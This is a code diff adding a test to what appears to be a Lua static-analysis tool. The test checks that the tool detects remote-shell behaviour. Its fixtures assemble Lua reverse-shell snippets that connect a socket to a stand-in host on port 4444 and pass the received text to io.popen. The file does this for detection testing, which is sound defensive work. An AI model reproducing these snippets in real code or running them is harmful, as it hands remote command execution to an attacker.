@@ -10,6 +10,7 @@ import yaml
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from perilune.analysis import lua
 from perilune.analysis.lua.apis import packaged
 from perilune.analysis.lua.sources import explain
 from perilune.analysis.lua.work import Waiting, Work
@@ -56,3 +57,18 @@ def test_the_same_text_gives_the_same_result(seed: int) -> None:
 )
 def test_any_text_is_read(text: str) -> None:
     _work(text)
+
+
+@pytest.mark.parametrize(
+    "between",
+    [
+        "local c = s:receive() ",
+        "local t = {} t.c = s:receive() local c = t.c ",
+        "local function get() return s:receive('*l') end local c = get() ",
+    ],
+)
+def test_a_remote_shell_is_where_what_is_received_is_what_is_started(between: str) -> None:
+    start = "local s = require('socket').tcp() s:connect('192.0.2.1', 4444) "
+    assert "remote-shell" in lua.analyze((start + between + "io.popen(c)").encode()).intents
+    apart = lua.analyze((start + "local c = 'python ' .. arg[1] io.popen(c) print(s:receive())").encode())
+    assert {"network-and-process", "socket-receive"} <= set(apart.intents) and "remote-shell" not in apart.intents
